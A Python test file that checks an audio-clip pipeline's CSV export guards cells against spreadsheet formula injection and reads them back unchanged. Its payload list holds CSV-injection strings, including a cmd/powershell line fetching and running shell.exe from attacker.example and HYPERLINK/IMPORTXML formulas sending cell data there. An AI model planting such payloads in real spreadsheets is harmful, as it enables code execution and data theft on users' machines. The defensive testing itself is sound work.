# SPDX-License-Identifier: Apache-2.0
"""Names from outside in CSV files: no formula to a spreadsheet, and read back as they were."""

import csv
import io

import pandas
import pytest
from hypothesis import given
from hypothesis import strategies as st

from beam_jobs.config import NumClips
from beam_jobs.corpus.readers import read_corpus
from beam_jobs.generate_clips import generate_clips
from beam_jobs.inspection import summarise, write_page
from beam_jobs.spreadsheet import csv_rows, guard, read_rows, unguard

# From OWASP's page on CSV injection, its testing guide and PayloadsAllTheThings.
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+9-cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "=10+20+cmd|' /C calc'!A0",
    '=HYPERLINK("https://attacker.example/?leak="&A1&A2,"Click")',
    "=IMPORTXML(CONCAT(\"https://attacker.example/?v=\", CONCATENATE(A2:E2)), \"//a/a10\")",
    "=1+2\";=1+2",
    "=1+2'\" ;,=1+2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",  # noqa: RUF001
    "harmless;=1+1",
    "'=1+1",
]  # fmt: skip
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")  # noqa: RUF001


def cells(content: bytes, delimiter: str) -> list[str]:
    """All cells as a spreadsheet would split them, which knows nothing of `guard`."""
    return [cell for row in csv.reader(io.StringIO(content.decode(), newline=""), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("delimiter", [",", ";"])
def test_no_payload_is_a_formula(payload, delimiter):
    content = csv_rows(["path", "loudness"], [{"path": payload, "loudness": -23.5}])
    found = cells(content, delimiter)
    assert not [cell for cell in found if cell.startswith(STARTS) and cell != "-23.5"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_read_back(payload):
    content = csv_rows(["path", "loudness"], [{"path": payload, "loudness": -23.5}], header=True)
    assert list(read_rows(content.decode())) == [{"path": payload, "loudness": "-23.5"}]
    frame = (
        pandas.read_csv(io.BytesIO(content), lineterminator="\n") if "\n" not in payload else pandas.read_csv(io.BytesIO(content))
    )
    assert frame["loudness"].tolist() == [-23.5]
    assert [unguard(path) for path in frame["path"]] == [payload]


@given(st.text(alphabet=st.characters(codec="utf-8")) | st.text(alphabet="'=;+a"))
def test_guarding_loses_nothing(text):
    assert unguard(guard(text)) == text
    assert not [part for part in guard(text).split(";") if part.startswith(STARTS)]


def test_ids_of_a_corpus_survive_clips_csv_and_the_page(own_corpus, make_config, tmp_path):
    ids = {"11": "=cmd|'/C'!A0", "12": "@SUM(1+9)", "13": "-2+3", "14": "'=1", "15": "a;=1+1"}
    paths = sorted(own_corpus.glob("tones/*/1/*.flac"))
    rows = [
        f"{path.relative_to(own_corpus)},{ids.get(path.parts[-3], path.parts[-3])},{'fm'[int(path.parts[-3]) % 2 == 0]}"
        for path in paths
    ]
    (own_corpus / "SPEAKERS.TXT").unlink()
    (own_corpus / "utterances.csv").write_text("\n".join(["path,speaker_id,label", *rows]) + "\n")
    folder = tmp_path / "clips"
    info = generate_clips(make_config(num_clips=NumClips(train=40, eval=3, test=3)), read_corpus(own_corpus), str(folder))

    text = (folder / "clips.csv").read_bytes()
    assert not [cell for cell in cells(text, ",") if cell.startswith(("=", "+", "@")) or cell.startswith("-2+")]
    heard = {id for row in read_rows(text.decode()) for id in row["speaker_ids"].split()}
    assert heard <= {id for speakers in info.speakers.values() for id in speakers}
    assert heard & set(ids.values())
    assert next(split.speakers for split in summarise(str(folder))) == len(info.speakers["train"])
    write_page(str(folder), str(tmp_path / "clips.html"))
